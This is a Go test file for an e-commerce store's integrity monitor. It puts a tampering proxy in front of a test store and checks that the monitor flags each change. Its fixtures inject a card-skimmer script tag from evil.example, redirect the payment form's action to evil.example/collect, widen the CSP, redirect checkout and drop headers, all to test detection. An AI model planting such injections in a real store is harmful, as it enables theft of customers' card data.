package monitor_test

import (
	"bytes"
	"context"
	"errors"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"kaede/internal/audit"
	"kaede/internal/cardpay"
	"kaede/internal/cart"
	"kaede/internal/catalog"
	"kaede/internal/checkout"
	"kaede/internal/content"
	"kaede/internal/db"
	"kaede/internal/db/dbtest"
	"kaede/internal/demo"
	"kaede/internal/mail"
	"kaede/internal/member"
	"kaede/internal/monitor"
	"kaede/internal/order"
	"kaede/internal/payment"
	"kaede/internal/payment/gateway"
	"kaede/internal/settings"
	"kaede/internal/shop"
	"kaede/internal/switches"
	"kaede/internal/web"
)

// realStore is Kaede's store on a real database, with the test card
// gateway, behind a reverse proxy that customers (and the monitor) go
// through: the store's base URL is the proxy's.
type realStore struct {
	db      *db.DB
	baseURL string // the proxy's
	gateway string // the card provider's page origin

	// switches are the store's emergency switches, obeyed by checkout and
	// shown by the store's pages.
	switches *switches.Service

	mu     sync.Mutex
	tamper func(*http.Response) error // what the proxy does to responses; nil passes them
}

func newRealStore(tb testing.TB, d *db.DB) *realStore {
	tb.Helper()
	ctx := context.Background()
	log := slog.New(slog.NewTextHandler(io.Discard, nil))
	clock := shop.SystemClock
	gwTS := httptest.NewUnstartedServer(nil)
	proxyTS := httptest.NewUnstartedServer(nil)
	storeTS := httptest.NewUnstartedServer(nil)
	s := &realStore{db: d, baseURL: "http://" + proxyTS.Listener.Addr().String(), gateway: "http://" + gwTS.Listener.Addr().String()}

	const apiKey, hookSecret = "monitor-test-api-key-0123456789abcdef", "monitor-test-webhook-secret-0123456789ab"
	gw, err := gateway.New(gateway.Config{BaseURL: s.gateway, APIKey: apiKey, WebhookSecret: hookSecret, Log: log,
		WebhookURL: s.baseURL + web.WebhookPath(gateway.Name)})
	if err != nil {
		tb.Fatalf("gateway: %v", err)
	}
	tb.Cleanup(func() { gw.Close() })
	gwTS.Config.Handler = gw
	gwTS.Start()
	tb.Cleanup(gwTS.Close)

	media := tb.TempDir()
	q := mail.NewTestQueue(clock)
	cat := catalog.New(d, clock)
	carts := cart.New(d, clock)
	orders := order.New(d, q, clock)
	checkouts := checkout.New(d, carts, orders, q, clock, s.baseURL)
	s.switches = switches.NewService(d, clock, 0)
	checkouts.UseSwitches(s.switches)
	payments, err := cardpay.New(d, orders, clock, log, cardpay.Config{
		Provider: gateway.NewClient(s.gateway, apiKey, hookSecret, nil), Capture: payment.CaptureAutomatic,
		BaseURL: s.baseURL, PageOrigins: []string{s.gateway}})
	if err != nil {
		tb.Fatalf("cardpay: %v", err)
	}
	if err := checkouts.EnableCard(checkout.CardOptions{Provider: gateway.Name, Capture: string(payment.CaptureAutomatic), TTL: 30 * time.Minute}); err != nil {
		tb.Fatalf("enable card: %v", err)
	}
	if err := demo.Seed(ctx, d, cat, media, clock()); err != nil {
		tb.Fatalf("seed demo: %v", err)
	}
	if err := web.EnsureDefaultContent(ctx, content.NewPages(d, clock)); err != nil {
		tb.Fatalf("default content: %v", err)
	}
	srv, err := web.New(web.Config{BaseURL: s.baseURL, Secret: bytes.Repeat([]byte("m"), 32), MediaDir: media}, web.Deps{
		Ping: d.PingContext, Settings: settings.NewService(d, clock, 2*time.Second),
		Sessions: member.NewSessions(d, clock), Legal: content.NewPages(d, clock), Logger: log, Clock: clock, Catalog: cat, Carts: carts, Checkout: checkouts, Orders: orders,
		Members: member.New(d, q, clock, s.baseURL), Payments: payments, Content: content.New(d, clock),
		Switches: s.switches,
	})
	if err != nil {
		tb.Fatalf("web.New: %v", err)
	}
	tb.Cleanup(func() { srv.Close() })
	storeTS.Config.Handler = srv.Handler()
	storeTS.Start()
	tb.Cleanup(storeTS.Close)

	target, _ := url.Parse(storeTS.URL)
	proxy := httputil.NewSingleHostReverseProxy(target)
	proxy.ModifyResponse = func(res *http.Response) error {
		s.mu.Lock()
		f := s.tamper
		s.mu.Unlock()
		if f == nil {
			return nil
		}
		return f(res)
	}
	proxyTS.Config.Handler = proxy
	proxyTS.Start()
	tb.Cleanup(proxyTS.Close)
	return s
}

// conditions is where the store's switches stand, as cmd/kaede tells the
// monitor.
func (s *realStore) conditions(ctx context.Context) (monitor.Conditions, error) {
	st, err := s.switches.State(ctx)
	return monitor.Conditions{CardStopped: !st.CardPayments(), CheckoutStopped: !st.Checkout()}, err
}

// flip sets a switch as staff would.
func (s *realStore) flip(tb testing.TB, n switches.Name, on bool) {
	tb.Helper()
	if _, err := s.switches.Set(context.Background(), switches.Change{Name: n, On: on, Reason: "monitor test"},
		audit.Actor{Name: "owner@example.jp"}); err != nil {
		tb.Fatalf("set switch %s: %v", n, err)
	}
}

// setTamper makes the proxy change responses with f (nil: not at all).
func (s *realStore) setTamper(f func(*http.Response) error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.tamper = f
}

// walker walks the store through the proxy. evil.example never resolves:
// the transport refuses it at once instead of asking DNS.
func (s *realStore) walker(tb testing.TB) *monitor.Walker {
	tb.Helper()
	t := http.DefaultTransport.(*http.Transport).Clone()
	tb.Cleanup(t.CloseIdleConnections)
	w, err := monitor.NewWalker(monitor.Config{BaseURL: s.baseURL, ProviderOrigins: []string{s.gateway},
		Transport: offline{t}})
	if err != nil {
		tb.Fatalf("NewWalker: %v", err)
	}
	return w
}

// offline refuses every host but the loopback ones, as a sandbox would.
type offline struct{ rt http.RoundTripper }

func (o offline) RoundTrip(req *http.Request) (*http.Response, error) {
	if host := req.URL.Hostname(); net.ParseIP(host) == nil || !net.ParseIP(host).IsLoopback() {
		return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
	}
	return o.rt.RoundTrip(req)
}

func (s *realStore) count(tb testing.TB, query string) int {
	tb.Helper()
	var n int
	if err := s.db.QueryRow(query).Scan(&n); err != nil {
		tb.Fatalf("%s: %v", query, err)
	}
	return n
}

// rewriteBody replaces old with new in the body of responses to
// method path; it fails the proxy (502) if old is not there, so that a
// tamper that did nothing cannot pass.
func rewriteBody(method, path string, match func(string) bool, old, new string) func(*http.Response) error {
	return func(res *http.Response) error {
		if res.Request.Method != method || !match(res.Request.URL.Path) {
			return nil
		}
		b, err := io.ReadAll(res.Body)
		res.Body.Close()
		if err != nil {
			return err
		}
		if !bytes.Contains(b, []byte(old)) {
			return errors.New("tamper: " + strconv.Quote(old) + " not in " + path)
		}
		b = bytes.Replace(b, []byte(old), []byte(new), 1)
		res.Body = io.NopCloser(bytes.NewReader(b))
		res.ContentLength = int64(len(b))
		res.Header.Set("Content-Length", strconv.Itoa(len(b)))
		return nil
	}
}

func is(path string) func(string) bool { return func(p string) bool { return p == path } }

// TestRealStoreUnchanged walks the real store twice: the snapshots are
// byte for byte the same, nothing differs, and the walk leaves no order
// and no item in any cart.
func TestRealStoreUnchanged(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := newRealStore(t, d)
		w := s.walker(t)
		ctx := context.Background()
		first, err := w.Walk(ctx)
		if err != nil {
			t.Fatalf("first walk: %v", err)
		}
		second, diffs, err := w.Check(ctx, first)
		if err != nil {
			t.Fatalf("second walk: %v", err)
		}
		for _, d := range diffs {
			t.Errorf("difference on an unchanged store: %s", d)
		}
		a, _ := first.Encode()
		b, _ := second.Encode()
		if !bytes.Equal(a, b) {
			t.Errorf("snapshots differ:\n%s\n---\n%s", a, b)
		}
		da, _ := first.Digest()
		db, _ := second.Digest()
		if da != db {
			t.Errorf("digests %s and %s differ", da, db)
		}

		// What the walk saw: three pages, the card step, the CSP parsed,
		// the stylesheet fetched and hashed, the session cookie's flags.
		var names []string
		for _, p := range first.Pages {
			names = append(names, p.Method+" "+p.Name)
		}
		if got, want := strings.Join(names, ", "), "GET /cart, GET /checkout, POST /checkout/confirm"; got != want {
			t.Errorf("pages %q, want %q", got, want)
		}
		if first.PaymentMethod != "card" {
			t.Errorf("payment method %q, want card", first.PaymentMethod)
		}
		if got := strings.Join(first.CardOrigins, " "); got != s.gateway {
			t.Errorf("card origins %q, want the gateway %q", got, s.gateway)
		}
		confirm := first.Pages[2]
		if len(confirm.CSP) == 0 || confirm.CSP[0].Name != "default-src" {
			t.Errorf("confirm page CSP %+v, want parsed directives", confirm.CSP)
		}
		var place bool
		for _, f := range confirm.Forms {
			place = place || strings.HasSuffix(f.Action, "/checkout/place")
		}
		if !place {
			t.Errorf("confirm page forms %+v: no order button form", confirm.Forms)
		}
		if len(first.Resources) == 0 {
			t.Fatal("no resource fetched")
		}
		for _, r := range first.Resources {
			if r.SHA384 == "" || r.Failed != "" {
				t.Errorf("resource %+v not hashed", r)
			}
		}
		if len(first.Cookies) == 0 {
			t.Error("no cookie recorded")
		}
		for _, c := range first.Cookies {
			for _, f := range c.Flags {
				if !strings.Contains(f, "HttpOnly") {
					t.Errorf("cookie %s flags %q: want HttpOnly", c.Name, f)
				}
			}
		}
		if n := s.count(t, `SELECT COUNT(*) FROM orders`); n != 0 {
			t.Errorf("orders after two walks: %d, want 0", n)
		}
		if n := s.count(t, `SELECT COUNT(*) FROM cart_items`); n != 0 {
			t.Errorf("cart items after two walks: %d, want 0", n)
		}

		// The baseline survives storage.
		back, err := monitor.Decode(a)
		if err != nil {
			t.Fatal(err)
		}
		if diffs := monitor.Diff(back, second); len(diffs) != 0 {
			t.Errorf("decoded baseline differs: %v", diffs)
		}
	})
}

// TestRealStoreTampered puts changes between the store and the monitor, in
// the proxy, one at a time: each gives its difference.
func TestRealStoreTampered(t *testing.T) {
	s := newRealStore(t, dbtest.SQLite(t))
	w := s.walker(t)
	ctx := context.Background()
	baseline, err := w.Walk(ctx)
	if err != nil {
		t.Fatalf("baseline: %v", err)
	}
	cssPath := ""
	for _, r := range baseline.Resources {
		if r.Kind == "stylesheet" {
			u, _ := url.Parse(r.URL)
			cssPath = u.Path
		}
	}
	evil := `<script src="https://evil.example/s.js"></script></head>`
	tests := []struct {
		name    string
		tamper  func(*http.Response) error
		kind    monitor.Kind
		page    string
		subject string // contained in the difference's subject or after
		blind   bool
	}{
		{name: "skimmer script on /checkout", tamper: rewriteBody("GET", "/checkout", is("/checkout"), "</head>", evil),
			kind: monitor.ScriptAdded, page: "/checkout", subject: "https://evil.example/s.js"},
		{name: "card step form action", tamper: rewriteBody("POST", "/checkout/confirm", is("/checkout/confirm"),
			`action="/checkout/place"`, `action="https://evil.example/collect"`),
			kind: monitor.FormChanged, page: "/checkout/confirm", subject: "https://evil.example/collect"},
		{name: "card step origin not the provider's", tamper: rewriteBody("POST", "/checkout/confirm", is("/checkout/confirm"),
			`action="/checkout/place"`, `action="https://evil.example/collect"`),
			kind: monitor.RedirectOrigin, page: "", subject: "https://evil.example"},
		{name: "CSP form-action widened on the card step", tamper: func(res *http.Response) error {
			if res.Request.URL.Path == "/checkout/confirm" {
				csp := res.Header.Get("Content-Security-Policy")
				res.Header.Set("Content-Security-Policy", strings.Replace(csp, "form-action 'self'", "form-action 'self' https://evil.example", 1))
			}
			return nil
		}, kind: monitor.CSPWeakened, page: "/checkout/confirm", subject: "form-action now allows https://evil.example"},
		{name: "checkout redirected to another origin", tamper: func(res *http.Response) error {
			if res.Request.Method == "GET" && res.Request.URL.Path == "/checkout" {
				res.StatusCode = http.StatusFound
				res.Header.Set("Location", "https://evil.example/checkout")
			}
			return nil
		}, kind: monitor.RedirectOrigin, page: "/checkout", subject: "https://evil.example/checkout", blind: true},
		{name: "CSP dropped", tamper: func(res *http.Response) error {
			if res.Request.URL.Path == "/checkout" {
				res.Header.Del("Content-Security-Policy")
			}
			return nil
		}, kind: monitor.HeaderRemoved, page: "/checkout", subject: "Content-Security-Policy"},
		{name: "one byte of the stylesheet", tamper: func(res *http.Response) error {
			if res.Request.URL.Path != cssPath {
				return nil
			}
			b, _ := io.ReadAll(res.Body)
			res.Body.Close()
			b[len(b)/2] ^= 1
			res.Body = io.NopCloser(bytes.NewReader(b))
			return nil
		}, kind: monitor.HashChanged, page: "", subject: cssPath},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s.setTamper(tc.tamper)
			defer s.setTamper(nil)
			_, diffs, err := w.Check(ctx, baseline)
			var blind *monitor.BlindError
			if tc.blind != errors.As(err, &blind) {
				t.Fatalf("walk error %v, want blind %v", err, tc.blind)
			}
			found := false
			for _, d := range diffs {
				t.Logf("%s", d)
				if d.Kind == tc.kind && d.Page == tc.page && d.Severity == monitor.Critical &&
					(strings.Contains(d.Subject, tc.subject) || strings.Contains(d.After, tc.subject)) {
					found = true
				}
			}
			if !found {
				t.Errorf("no critical %s on %q about %q among %d differences", tc.kind, tc.page, tc.subject, len(diffs))
			}
		})
	}
	// Untampered again: nothing.
	if _, diffs, err := w.Check(ctx, baseline); err != nil || len(diffs) != 0 {
		t.Errorf("after the tampering stopped: %v, %v", diffs, err)
	}
	if n := s.count(t, `SELECT COUNT(*) FROM orders`); n != 0 {
		t.Errorf("orders after the walks: %d, want 0", n)
	}
}

// BenchmarkWalkAndDiff is one monitor run against the real store (SQLite):
// a walk through the proxy and a diff with the baseline. The store runs in
// this process, so the CPU figures include the store serving the walk.
func BenchmarkWalkAndDiff(b *testing.B) {
	s := newRealStore(b, dbtest.SQLite(b))
	w := s.walker(b)
	ctx := context.Background()
	baseline, err := w.Walk(ctx)
	if err != nil {
		b.Fatal(err)
	}
	start := cpuTime(b)
	b.ResetTimer()
	for b.Loop() {
		_, diffs, err := w.Check(ctx, baseline)
		if err != nil || len(diffs) != 0 {
			b.Fatalf("check: %v %v", diffs, err)
		}
	}
	b.StopTimer()
	b.ReportMetric(float64((cpuTime(b)-start).Microseconds())/1000/float64(b.N), "cpu-ms/op")
}

// cpuTime is the process's user and system CPU time so far.
func cpuTime(tb testing.TB) time.Duration {
	tb.Helper()
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		tb.Fatal(err)
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}
